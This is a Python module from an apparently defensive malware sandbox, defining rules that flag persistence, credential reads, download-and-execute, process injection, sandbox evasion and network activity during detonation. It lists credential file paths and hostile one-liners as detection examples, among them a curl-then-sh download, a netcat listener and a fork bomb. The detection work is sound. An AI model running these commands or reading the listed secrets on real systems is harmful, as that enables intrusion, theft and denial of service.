"""Behaviour -> findings: the explicit list of detonation rules.

Standard library only (runs inside the guest).  Pure: no I/O, no clock.

Events come from :mod:`mailvm.guest.monitor` (strace), the fakenet log and
:mod:`mailvm.guest.wine`; a :class:`RuleEngine` is fed them one at a time (so
the detonation can stop at the first conclusive finding) and keeps one
:class:`~mailvm.verdict.Finding` per rule id, with the first few details and a
count.  :func:`evaluate` runs a whole list (the unit tests use it).

Every rule is a :class:`Rule` row in :data:`RULES` (id, severity, the
behaviour in words, an example); ``docs/guest-rules.md`` is the same table.
Engine-level findings (``timed_out``, ``no_launcher``...) are listed in
:data:`ENGINE_FINDINGS`.
"""

from __future__ import annotations

import ipaddress
import logging
import posixpath
import re
from dataclasses import dataclass, field
from typing import Any, Callable, Iterable

from mailvm.verdict import Finding

log = logging.getLogger(__name__)

SOURCE = "detonation"
MAX_DETAILS = 3

HOME = "/home/user"
WORK = "/work"
FAKE_DNS_POOL = ipaddress.ip_network("198.18.0.0/15")
PAYLOAD_MARKER = "mailvm-fakenet-payload-executed"  # keep in step with fakenet.PAYLOAD_MARKER

SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "fish", "busybox", "ash"}
INTERPRETERS = {"python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua", "tclsh", "wish",
                "pwsh", "osascript"}
DOWNLOADERS = {"curl", "wget", "nc", "ncat", "netcat", "socat", "tftp", "ftp"}
WIN_SHELLS = {"cmd.exe", "powershell.exe", "pwsh.exe", "wscript.exe", "cscript.exe", "mshta.exe", "rundll32.exe",
              "regsvr32.exe", "certutil.exe", "bitsadmin.exe", "schtasks.exe", "msiexec.exe", "wmic.exe"}
PRIV_TOOLS = {"sudo", "su", "pkexec", "doas", "runuser"}
VM_TOOLS = {"systemd-detect-virt", "virt-what", "dmidecode", "imvirt", "vmware-checkvm", "vmtoolsd", "lshw",
            "hostnamectl", "dmesg"}
USER_DIRS = ("Documents", "Desktop", "Pictures", "Downloads", "Music", "Videos")
WRITE_OPS = {"write", "rename", "unlink", "chmod", "mkdir", "link", "rmdir"}
SAFE_WRITE_PREFIXES = ("/tmp/", "/var/tmp/", "/dev/shm/", "/dev/null", "/dev/tty", "/dev/pts/", "/dev/zero",
                       "/dev/full", "/dev/random", "/dev/urandom", "/proc/self/", "/proc/thread-self/")


@dataclass(frozen=True)
class RuleContext:
    """What the rules know about this detonation (paths are inside the sandbox)."""

    work_dir: str = WORK
    home: str = HOME
    sample_path: str = ""
    launcher: str = ""
    role: str = "program"  # program | script | viewer
    platform: str = "linux"  # linux | windows
    viewer_exes: frozenset[str] = frozenset()
    quiet_prefixes: tuple[str, ...] = ()
    decoys: tuple[str, ...] = ()
    nproc_limit: int = 512
    ignore_names: frozenset[str] = frozenset({"localhost"})  # own host names: not network activity


@dataclass
class State:
    """What earlier events established (updated before the rules see an event)."""

    written: dict[str, float] = field(default_factory=dict)
    exec_bit: set[str] = field(default_factory=set)
    payload_t: float | None = None
    downloaded: set[str] = field(default_factory=set)
    dns: dict[str, str] = field(default_factory=dict)  # fake address -> name
    user_files: set[str] = field(default_factory=set)
    clone_failures: int = 0
    forks: int = 0
    alive: int = 1  # processes of the sample alive now (the first one included)
    max_alive: int = 1
    inet_binds: dict[str, str] = field(default_factory=dict)  # socket id -> ip:port

    def update(self, ev: dict[str, Any], ctx: RuleContext) -> None:
        typ = ev.get("type")
        t = float(ev.get("t", 0.0) or 0.0)
        if typ == "file" and ev.get("ok", True):
            op = ev.get("op")
            path = _s(ev.get("path"))
            if op in ("write", "link"):
                self._wrote(path, t)
            elif op == "rename":
                self._wrote(_s(ev.get("path2")), t)
            elif op == "chmod" and ev.get("exec_bit"):
                self.exec_bit.add(path)
            if op in ("write", "rename", "unlink") and is_user_file(path, ctx):
                if len(self.user_files) < 10_000:
                    self.user_files.add(path)
        elif typ == "http" and ev.get("served") == "payload" and self.payload_t is None:
            self.payload_t = t
        elif typ == "dns" and ev.get("answer"):
            if len(self.dns) < 50_000:
                self.dns[_s(ev["answer"])] = _s(ev.get("name"))
        elif typ == "bind" and ev.get("ok", True) and ev.get("socket") and len(self.inet_binds) < 10_000:
            self.inet_binds[_s(ev["socket"])] = _s(ev.get("dst"))
        elif typ == "clone_failed":
            self.clone_failures += 1
        elif typ == "fork":
            self.forks += 1
            self.alive += 1
            self.max_alive = max(self.max_alive, self.alive)
        elif typ == "exit":
            self.alive = max(0, self.alive - 1)

    def _wrote(self, path: str, t: float) -> None:
        if not path or len(self.written) >= 100_000:
            return
        self.written.setdefault(path, t)
        if self.payload_t is not None and t >= self.payload_t:
            self.downloaded.add(path)


Check = Callable[[dict[str, Any], RuleContext, State], "str | None"]


@dataclass(frozen=True)
class Rule:
    """One behaviour: which event types it reads, how bad it is, how it is recognised."""

    id: str
    severity: int
    types: frozenset[str]
    check: Check
    behaviour: str
    example: str


# ------------------------------------------------------------------ helpers


def _s(v: Any) -> str:
    return v if isinstance(v, str) else ("" if v is None else str(v))


def base(path: str) -> str:
    return posixpath.basename(_s(path).rstrip("/"))


def prog_name(path: str) -> str:
    """``/usr/bin/python3.11`` -> ``python3``; ``C:\\x\\CMD.EXE`` -> ``cmd.exe``."""
    b = base(_s(path).replace("\\", "/")).lower()
    m = re.match(r"^(python[23]?|perl|ruby|php|lua|node)(\d[\d.]*)?$", b)
    return m.group(1) if m else b


def under(path: str, prefix: str) -> bool:
    prefix = prefix.rstrip("/")
    return path == prefix or path.startswith(prefix + "/")


def in_home(path: str, ctx: RuleContext, *rel: str) -> bool:
    return any(under(path, posixpath.join(ctx.home, r)) for r in rel)


def is_user_file(path: str, ctx: RuleContext) -> bool:
    return path in ctx.decoys or in_home(path, ctx, *USER_DIRS)


def quiet(path: str, prefixes: Iterable[str]) -> bool:
    """Is ``path`` one the launcher writes itself?

    An entry is a file or a directory (the path itself or anything below it);
    an entry ending in ``*`` is a plain string prefix (``/tmp/wine-*``).
    """
    for q in prefixes:
        if q.endswith("*"):
            if path.startswith(q[:-1]):
                return True
        elif under(path, q):
            return True
    return False


def _quiet(path: str, ctx: RuleContext) -> bool:
    return quiet(path, ctx.quiet_prefixes)


def _written_path(ev: dict[str, Any]) -> str:
    return _s(ev.get("path2")) if ev.get("op") in ("rename",) else _s(ev.get("path"))


def _attempt(ev: dict[str, Any]) -> str:
    return "" if ev.get("ok", True) else f" (attempt: {_s(ev.get('err'))})"


def _is_write(ev: dict[str, Any]) -> bool:
    return ev.get("op") in ("write", "rename", "link", "chmod", "mkdir")


def _exec_names(ev: dict[str, Any]) -> tuple[str, str]:
    """(program name, parent program name) of an exec event."""
    return prog_name(_s(ev.get("path"))), prog_name(_s(ev.get("parent_exe")))


def _is_ip(text: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address | None:
    try:
        return ipaddress.ip_address(text)
    except ValueError:
        return None


# ------------------------------------------------------------------ checks: persistence


def _path_rule(prefixes_home: tuple[str, ...], absolute: tuple[str, ...], names_home: tuple[str, ...] = ()) -> Check:
    def check(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
        if not _is_write(ev):
            return None
        path = _written_path(ev)
        hit = (in_home(path, ctx, *prefixes_home) or any(under(path, a) for a in absolute)
               or any(path == posixpath.join(ctx.home, n) for n in names_home))
        return f"{ev.get('op')} {path}{_attempt(ev)}" if hit else None
    return check


def _cron(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "exec":
        name = prog_name(_s(ev.get("path")))
        argv = [_s(a) for a in ev.get("argv") or []]
        if name == "crontab" and not any(a in ("-l", "-r") for a in argv[1:]):
            return "crontab " + " ".join(argv[1:])[:200] + _attempt(ev)
        if name == "at" or name == "batch":
            return "exec " + " ".join(argv)[:200]
        return None
    if ev.get("op") == "probe" and base(_s(ev.get("path"))) == "crontab" and _s(ev.get("path")).startswith(
            ("/usr/", "/bin/", "/sbin/")):
        # a shell looks the command up before exec: where cron is not installed that is all there is
        return f"looked up {ev.get('path')} to run it{_attempt(ev)}"
    return _path_rule((), ("/etc/crontab", "/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly",
                           "/etc/cron.monthly", "/var/spool/cron", "/etc/anacrontab"))(ev, ctx, st)


def _systemd(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "exec":
        argv = [_s(a) for a in ev.get("argv") or []]
        if prog_name(_s(ev.get("path"))) == "systemctl" and any(a in ("enable", "link", "edit") for a in argv):
            return "systemctl " + " ".join(argv[1:])[:200]
        return None
    return _path_rule((".config/systemd", ".local/share/systemd"),
                      ("/etc/systemd", "/lib/systemd", "/usr/lib/systemd", "/etc/init.d", "/etc/rc.local",
                       "/etc/init"))(ev, ctx, st)


RUN_KEY_RE = re.compile(
    r"\\(currentversion\\(run|runonce|runservices|runservicesonce|policies\\explorer\\run)"
    r"|windows nt\\currentversion\\(winlogon|image file execution options|windows))(\\|$)", re.I)
WINLOGON_VALUES = {"shell", "userinit", "taskman", "appinit_dlls", "load", "run", "debugger"}


def _registry_run(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    key = _s(ev.get("key"))
    m = RUN_KEY_RE.search(key)
    if not m:
        return None
    value = _s(ev.get("value"))
    if m.group(3) and value.lower() not in WINLOGON_VALUES:  # Winlogon/IFEO/Windows: only the hijackable values
        return None
    data = _s(ev.get("data"))
    return f"{key}\\{value}" + (f" = {data[:200]}" if data else "")


def _startup_folder(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _is_write(ev):
        return None
    path = _written_path(ev)
    if "/start menu/programs/startup/" in path.lower().replace("\\", "/") + "/" and not path.lower().endswith(
            "/startup"):
        return f"{ev.get('op')} {path}{_attempt(ev)}"
    return None


# ------------------------------------------------------------------ checks: files


def _outside_workdir(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") not in WRITE_OPS:
        return None
    path = _written_path(ev)
    if not path.startswith("/") or under(path, ctx.work_dir) or _quiet(path, ctx) or in_home(path, ctx, ".cache"):
        return None
    if any(path == p.rstrip("/") or path.startswith(p) for p in SAFE_WRITE_PREFIXES):
        return None
    if path.startswith("/proc/") and not path.startswith("/proc/sys/") and not path.endswith("/mem"):
        return None  # thread names, oom_score_adj...: the process's own settings
    return f"{ev.get('op')} {path}{_attempt(ev)}"


def _authorized_keys(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _is_write(ev):
        return None
    path = _written_path(ev)
    if base(path) in ("authorized_keys", "authorized_keys2") and ("/.ssh/" in path or path.startswith("/etc/ssh")):
        return f"{ev.get('op')} {path}{_attempt(ev)}"
    return None


def _user_file_modified(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") in ("write", "rename", "unlink") and is_user_file(_s(ev.get("path")), ctx):
        return f"{ev.get('op')} {ev.get('path')}{_attempt(ev)}"
    return None


MASS_MODIFICATION_MIN = 5


def _mass_modification(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") in ("write", "rename", "unlink") and is_user_file(_s(ev.get("path")), ctx):
        if len(st.user_files) >= MASS_MODIFICATION_MIN:
            return f"{len(st.user_files)} user files modified, renamed or deleted (e.g. {ev.get('path')})"
    return None


def _self_delete(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") == "unlink" and ctx.sample_path and _s(ev.get("path")) == ctx.sample_path:
        return f"unlink {ctx.sample_path}{_attempt(ev)}"
    return None


SECRETS_HOME = (".ssh/id_", ".gnupg/", ".aws/credentials", ".kube/config", ".docker/config.json", ".netrc",
                ".git-credentials", ".bitcoin/wallet.dat", ".electrum/", ".config/google-chrome/",
                ".config/chromium/", ".config/BraveSoftware/", ".mozilla/firefox/", ".password-store/",
                ".local/share/keyrings/", ".purple/accounts.xml", ".config/filezilla/", ".thunderbird/")
SECRET_FILES_MOZ = ("logins.json", "key4.db", "key3.db", "cookies.sqlite", "signons.sqlite")
SECRETS_ABS = ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_")


def _credential_access(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") != "read":
        return None
    path = _s(ev.get("path"))
    hit = False
    if path.startswith(ctx.home.rstrip("/") + "/"):
        rel = path[len(ctx.home.rstrip("/")) + 1 :]
        for s in SECRETS_HOME:
            if rel.startswith(s):
                if s in (".mozilla/firefox/", ".thunderbird/"):
                    hit = base(path) in SECRET_FILES_MOZ
                elif s.startswith(".config/") and s != ".config/filezilla/":
                    hit = base(path) in ("Login Data", "Cookies", "Web Data", "Local State")
                else:
                    hit = True
                break
    else:
        hit = any(path.startswith(a) for a in SECRETS_ABS)
    return f"read {path}{_attempt(ev)}" if hit else None


def _log_tampering(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("op") not in ("write", "unlink", "rename", "link"):
        return None
    path = _s(ev.get("path"))
    if base(path) in (".bash_history", ".zsh_history", ".python_history", ".lesshst") and ev.get("op") != "write" or (
            ev.get("op") == "link" and base(path).endswith("_history")) or under(path, "/var/log"):
        return f"{ev.get('op')} {path}{_attempt(ev)}"
    return None


# ------------------------------------------------------------------ checks: execution


def _exec_ok(ev: dict[str, Any]) -> bool:
    return ev.get("type") == "exec" and ev.get("ok", True) and ev.get("src") != "wine"


def _executed_paths(ev: dict[str, Any]) -> list[str]:
    """The exec'd file plus, for interpreters, the script file in argv."""
    paths = [_s(ev.get("path"))]
    name = prog_name(_s(ev.get("path")))
    if name in SHELLS or name in INTERPRETERS:
        for a in (ev.get("argv") or [])[1:4]:
            a = _s(a)
            if a.startswith("-"):
                if a in ("-c", "-e", "-m"):
                    break
                continue
            paths.append(a)
            break
    return paths


def _drop_execute(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _exec_ok(ev):
        return None
    for p in _executed_paths(ev):
        if p in st.written and p != ctx.sample_path:
            return f"wrote then executed {p}"
        if p in st.exec_bit and p != ctx.sample_path:
            return f"chmod +x then executed {p}"
    return None


def _download_execute(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _exec_ok(ev):
        return None
    if any(PAYLOAD_MARKER in _s(a) for a in ev.get("argv") or []):
        return "the payload served by the simulated internet was executed"
    for p in _executed_paths(ev):
        if p in st.downloaded:
            return f"executed {p}, written after an HTTP download"
    return None


def _fileless(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _exec_ok(ev):
        return None
    path = _s(ev.get("path"))
    if re.match(r"^/proc/(self|\d+)/fd/\d+$", path) or path.startswith("/memfd:") or "(deleted)" in path:
        return f"exec {path}"
    return None


def _shell_spawned(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.role != "program" or ev.get("type") != "exec" or not ev.get("ok", True):
        return None
    name = prog_name(_s(ev.get("path")))
    if ev.get("src") == "wine":
        if name in WIN_SHELLS:
            return f"{name}: {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if name in SHELLS or name in INTERPRETERS:
        return f"{ev.get('path')} {' '.join(_s(a) for a in (ev.get('argv') or [])[1:])[:200]}"
    return None


def _viewer_spawns_shell(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.role != "viewer" or ev.get("type") != "exec" or not ev.get("ok", True):
        return None
    name, parent = _exec_names(ev)
    if ev.get("src") == "wine":
        if name in WIN_SHELLS:
            return f"{name}: {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if parent in ctx.viewer_exes and (name in SHELLS or name in INTERPRETERS or name in DOWNLOADERS):
        return f"{parent} started {ev.get('path')} {' '.join(_s(a) for a in (ev.get('argv') or [])[1:])[:200]}"
    return None


def _privilege_escalation(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "exec":
        if prog_name(_s(ev.get("path"))) in PRIV_TOOLS:
            return f"exec {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if _is_write(ev) and (under(_written_path(ev), "/etc/sudoers") or under(_written_path(ev), "/etc/sudoers.d")
                          or under(_written_path(ev), "/etc/passwd")):
        return f"{ev.get('op')} {_written_path(ev)}{_attempt(ev)}"
    return None


# ------------------------------------------------------------------ checks: processes


def _injection(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    typ = ev.get("type")
    if typ == "inject":
        return f"{ev.get('call')} into pid {ev.get('target')}{_attempt(ev)}"
    if typ == "ptrace":
        req = _s(ev.get("request"))
        if req in ("PTRACE_ATTACH", "PTRACE_SEIZE", "PTRACE_POKETEXT", "PTRACE_POKEDATA", "PTRACE_POKEUSER",
                   "PTRACE_SETREGS", "PTRACE_SETREGSET"):
            return f"ptrace {req} pid {ev.get('target')}{_attempt(ev)}"
        return None
    if typ == "file" and ev.get("op") == "write":
        m = re.match(r"^/proc/(\d+)/mem$", _s(ev.get("path")))
        if m and int(m.group(1)) != ev.get("pid"):
            return f"open {ev.get('path')} for writing{_attempt(ev)}"
    return None


def _anti_debug(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("request") == "PTRACE_TRACEME":
        return "ptrace(PTRACE_TRACEME): checks for a debugger"
    return None


VM_PATHS = ("/sys/class/dmi/id", "/sys/devices/virtual/dmi", "/sys/hypervisor", "/proc/xen", "/proc/scsi/scsi",
            "/.dockerenv", "/run/.containerenv", "/proc/vz", "/proc/1/cgroup", "/sys/firmware/acpi/tables",
            "/proc/sysinfo", "/dev/vboxguest", "/dev/vboxuser")


def _anti_vm(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "exec":
        if prog_name(_s(ev.get("path"))) in VM_TOOLS:
            return f"exec {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if ctx.platform != "linux" or ev.get("op") not in ("read", "probe"):
        return None  # Wine itself reads DMI and cpuinfo to fill its registry
    path = _s(ev.get("path"))
    if any(under(path, p) for p in VM_PATHS):
        return f"{ev.get('op')} {path}"
    return None


def _cpuinfo(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.platform == "linux" and ev.get("op") == "read" and _s(ev.get("path")) == "/proc/cpuinfo":
        return "read /proc/cpuinfo"
    return None


LONG_SLEEP_S = 30.0


def _long_sleep(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    secs = ev.get("seconds")
    if isinstance(secs, (int, float)) and secs >= LONG_SLEEP_S:
        return f"sleep {secs:g} s"
    return None


CLONE_FAILURES_MIN = 5
CONCURRENT_PROCESSES_MIN = 100


def _resource_exhaustion(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "clone_failed" and st.clone_failures == CLONE_FAILURES_MIN:
        return f"{st.clone_failures} process creations refused at the limit ({st.forks} processes created)"
    if ev.get("type") == "fork" and st.alive == st.max_alive == CONCURRENT_PROCESSES_MIN:
        return f"{st.max_alive} processes alive at once ({st.forks} created)"
    return None


def _listens(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "listen" and ev.get("ok", True):
        where = st.inet_binds.get(_s(ev.get("socket")))
        if where is not None:
            return f"listen() on {where}"
    return None


def _library_writable(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    path = _s(ev.get("path"))
    if ev.get("src") == "wine":
        low = path.lower().replace("\\", "/")
        own = ("z:" + ctx.sample_path).lower()
        if ev.get("native") and not low.startswith("c:/windows/") and low != own:
            return f"native DLL {path}"
        return None
    if path == ctx.sample_path or _quiet(path, ctx):
        return None
    if any(under(path, d) for d in (ctx.work_dir, "/tmp", "/var/tmp", "/dev/shm", ctx.home)) or path.startswith(
            "/memfd:"):
        return f"mapped executable {path}"
    return None


# ------------------------------------------------------------------ checks: network


def _remote_ip(ev: dict[str, Any]) -> tuple[str, int] | None:
    if ev.get("family") not in ("inet", "inet6") and ev.get("type") not in ("tcp",):
        return None
    ip = _is_ip(_s(ev.get("ip")))
    port = ev.get("port")
    if ip is None or not isinstance(port, int) or ip.is_loopback or ip.is_unspecified or ip.is_multicast:
        return None
    return str(ip), port


def _raw_ip(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    r = _remote_ip(ev)
    if r is None or r[1] in (0, 53):
        return None
    ip = ipaddress.ip_address(r[0])
    if ip in FAKE_DNS_POOL or r[0] in st.dns or ev.get("name"):
        return None
    return f"{_s(ev.get('dst')) or r[0] + ':' + str(r[1])} ({ev.get('type')})"


def _resolved(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    r = _remote_ip(ev)
    if r is None or r[1] in (0, 53):
        return None
    ip = ipaddress.ip_address(r[0])
    name = _s(ev.get("name")) or st.dns.get(r[0], "")
    if not name and ip not in FAKE_DNS_POOL:
        return None
    return f"{name or '(name resolved by the simulated DNS)'} -> {r[0]}:{r[1]}"


def _dns(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    name = _s(ev.get("name"))
    if not name or name.lower().rstrip(".") in ctx.ignore_names:
        return None
    return f"{name} ({_s(ev.get('qtype')) or 'lookup'})"


def _http(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    ua = _s(ev.get("ua"))
    return f"{ev.get('method')} {ev.get('url')}" + (f" UA={ua[:80]}" if ua else "")


def _tls(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    return f"TLS to {ev.get('sni') or '(no SNI)'} at {ev.get('dst')}"


# ------------------------------------------------------------------ the table


def _t(*types: str) -> frozenset[str]:
    return frozenset(types)


RULES: tuple[Rule, ...] = (
    Rule("persistence_autostart", 8, _t("file"),
         _path_rule((".config/autostart",), ("/etc/xdg/autostart",)),
         "writes an XDG autostart entry", "~/.config/autostart/update.desktop"),
    Rule("persistence_cron", 8, _t("file", "exec"), _cron,
         "installs a cron job (crontab command or cron files) or an at job", "crontab /tmp/c; /etc/cron.d/x"),
    Rule("persistence_systemd", 8, _t("file", "exec"), _systemd,
         "writes a systemd unit / init script or enables a unit", "~/.config/systemd/user/x.service"),
    Rule("persistence_shell_rc", 7, _t("file"),
         _path_rule((), ("/etc/profile", "/etc/profile.d", "/etc/bash.bashrc", "/etc/zsh"),
                    (".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zprofile", ".bash_logout",
                     ".xprofile", ".xsessionrc", ".xinitrc")),
         "modifies a shell start-up file", "append to ~/.bashrc"),
    Rule("persistence_ld_preload", 8, _t("file"), _path_rule((), ("/etc/ld.so.preload",)),
         "writes /etc/ld.so.preload (library injection into every program)", "/etc/ld.so.preload"),
    Rule("persistence_registry_run", 8, _t("reg_set"), _registry_run,
         "sets a Windows autorun registry value (Run/RunOnce, Winlogon Shell/Userinit, IFEO Debugger, AppInit)",
         r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\updater"),
    Rule("persistence_startup_folder", 8, _t("file"), _startup_folder,
         "drops a file in a Windows Startup folder", r"...\Start Menu\Programs\Startup\x.lnk"),
    Rule("ssh_authorized_keys", 9, _t("file"), _authorized_keys,
         "writes an SSH authorized_keys file (remote access backdoor)", "~/.ssh/authorized_keys"),
    Rule("write_outside_workdir", 4, _t("file"), _outside_workdir,
         "creates, changes or deletes files outside its working directory, /tmp and ~/.cache",
         "~/.local/bin/x, /etc/hosts"),
    Rule("user_file_modified", 4, _t("file"), _user_file_modified,
         "modifies, renames or deletes a user document", "~/Documents/report.docx"),
    Rule("mass_file_modification", 9, _t("file"), _mass_modification,
         f"modifies, renames or deletes {MASS_MODIFICATION_MIN} or more user documents (ransomware pattern)",
         "~/Documents/*.docx -> *.docx.locked"),
    Rule("self_delete", 5, _t("file"), _self_delete, "deletes its own file", "rm $0"),
    Rule("credential_access", 6, _t("file"), _credential_access,
         "reads stored credentials (SSH keys, browser logins, cloud credentials, wallets, /etc/shadow)",
         "~/.ssh/id_rsa, ~/.mozilla/firefox/*/logins.json"),
    Rule("log_tampering", 4, _t("file"), _log_tampering, "deletes shell history or touches /var/log",
         "rm ~/.bash_history"),
    Rule("drop_execute", 7, _t("exec"), _drop_execute,
         "executes a file it wrote (or made executable) itself", "write /tmp/.x; chmod +x; exec /tmp/.x"),
    Rule("download_execute", 9, _t("exec"), _download_execute,
         "executes content fetched over HTTP (file written after the download, or the simulated payload ran)",
         "curl http://x/p -o /tmp/p; sh /tmp/p"),
    Rule("fileless_execution", 8, _t("exec"), _fileless,
         "executes from memory (memfd, /proc/self/fd, a deleted file)", "memfd_create + execve(/proc/self/fd/3)"),
    Rule("shell_spawned", 5, _t("exec"), _shell_spawned,
         "an executable (ELF/PE) starts a shell or script interpreter", "execve(/bin/sh -c ...) from an ELF"),
    Rule("viewer_spawns_shell", 9, _t("exec"), _viewer_spawns_shell,
         "a document viewer (office, PDF, browser, shortcut) starts a shell, interpreter or downloader",
         "soffice.bin -> /bin/sh -c curl ..."),
    Rule("privilege_escalation_attempt", 5, _t("exec", "file"), _privilege_escalation,
         "runs sudo/su/pkexec or writes sudoers/passwd", "sudo -n true"),
    Rule("process_injection", 8, _t("inject", "ptrace", "file"), _injection,
         "writes into another process (ptrace attach/poke, process_vm_writev, /proc/PID/mem)",
         "ptrace(PTRACE_ATTACH, 1234)"),
    Rule("anti_debug", 4, _t("ptrace"), _anti_debug, "checks whether it is being debugged",
         "ptrace(PTRACE_TRACEME)"),
    Rule("anti_vm_probe", 4, _t("file", "exec"), _anti_vm,
         "looks for signs of a VM or sandbox (DMI ids, hypervisor files, systemd-detect-virt, dmidecode)",
         "read /sys/class/dmi/id/product_name"),
    Rule("cpu_info_probe", 2, _t("file"), _cpuinfo, "reads /proc/cpuinfo (hypervisor flag checks)",
         "read /proc/cpuinfo"),
    Rule("long_sleep", 3, _t("sleep"), _long_sleep, f"sleeps {LONG_SLEEP_S:g} s or longer (sandbox evasion)",
         "sleep(600)"),
    Rule("resource_exhaustion", 7, _t("clone_failed", "fork"), _resource_exhaustion,
         f"creates processes until the limit refuses them ({CLONE_FAILURES_MIN}+ refusals) or keeps "
         f"{CONCURRENT_PROCESSES_MIN}+ alive at once: fork bomb",
         ":(){ :|:& };:"),
    Rule("listens_for_connections", 5, _t("listen"), _listens,
         "opens a listening socket (bind shell, backdoor)", "nc -l -p 4444"),
    Rule("library_from_writable_dir", 6, _t("image"), _library_writable,
         "maps executable code from its working directory, /tmp, $HOME or memory (or a native DLL outside "
         "C:\\windows)", "dlopen(/tmp/x.so)"),
    Rule("network_raw_ip", 6, _t("connect", "sendto", "tcp"), _raw_ip,
         "connects to an IP address it did not look up in DNS (hard-coded C2)", "203.0.113.10:4444"),
    Rule("network_resolved_host", 4, _t("connect", "sendto", "tcp"), _resolved,
         "connects to a host name resolved by the simulated DNS", "evil.example -> 198.18.0.1:443"),
    Rule("dns_query", 1, _t("dns", "dns_lookup"), _dns, "looks up a host name", "updates.example.test (A)"),
    Rule("http_request", 5, _t("http"), _http, "makes an HTTP request (URL in the detail)",
         "GET http://updates.example.test/payload"),
    Rule("tls_connection", 4, _t("tls"), _tls, "starts a TLS connection (SNI in the detail)",
         "TLS to cdn.example at 198.18.0.2:443"),
)

#: findings the detonation itself produces (not from behaviour); documented with the rules
ENGINE_FINDINGS: tuple[tuple[str, int, str], ...] = (
    ("timed_out", 0, "the sample was still running at the timeout"),
    ("no_launcher", 0, "nothing in the guest can run or open this file type"),
    ("launch_failed", 0, "the launcher could not start the sample (exec error)"),
    ("agent_error", 0, "the guest agent failed internally; verdict error"),
    ("sandbox_error", 0, "the sandbox could not be set up; verdict error"),
    ("detonation_aborted", 0, "the host asked for the slot back before the end"),
    ("sandbox_leftover", 0, "processes survived the kill at the end (they were killed again)"),
    ("trace_truncated", 0, "the behaviour trace hit its size cap; later events were not analysed"),
)


class RuleEngine:
    """Feed events one by one; collect one finding per rule id."""

    def __init__(self, ctx: RuleContext, rules: Iterable[Rule] = RULES) -> None:
        self.ctx = ctx
        self.rules = tuple(rules)
        self.by_type: dict[str, list[Rule]] = {}
        for r in self.rules:
            for t in r.types:
                self.by_type.setdefault(t, []).append(r)
        self.state = State()
        self.hits: dict[str, list[str]] = {}
        self.counts: dict[str, int] = {}
        self.order: list[Rule] = []
        self.errors = 0

    def feed(self, ev: dict[str, Any]) -> list[Finding]:
        """Update state with ``ev``, run the rules that read its type; new findings only."""
        if not isinstance(ev, dict):
            return []
        try:
            self.state.update(ev, self.ctx)
        except (TypeError, ValueError, KeyError) as exc:
            self.errors += 1
            log.debug("state update failed on %r: %s", ev.get("type"), exc)
        new: list[Finding] = []
        for rule in self.by_type.get(_s(ev.get("type")), ()):
            try:
                detail = rule.check(ev, self.ctx, self.state)
            except Exception as exc:  # one bad rule or event must not stop the others
                self.errors += 1
                log.warning("rule %s failed: %r", rule.id, exc)
                continue
            if detail is None:
                continue
            first = rule.id not in self.hits
            details = self.hits.setdefault(rule.id, [])
            self.counts[rule.id] = self.counts.get(rule.id, 0) + 1
            if detail not in details and len(details) < MAX_DETAILS:
                details.append(detail)
            if first:
                self.order.append(rule)
                new.append(Finding(rule.id, rule.severity, detail, SOURCE))
        return new

    def findings(self) -> list[Finding]:
        out = []
        for rule in self.order:
            details = self.hits[rule.id]
            more = self.counts[rule.id] - len(details)
            text = "; ".join(details) + (f" (+{more} more)" if more > 0 else "")
            out.append(Finding(rule.id, rule.severity, text, SOURCE))
        return out


def evaluate(events: Iterable[dict[str, Any]], ctx: RuleContext | None = None) -> list[Finding]:
    """All findings for a list of events (what the engine reports at the end)."""
    engine = RuleEngine(ctx or RuleContext())
    for ev in events:
        engine.feed(ev)
    return engine.findings()
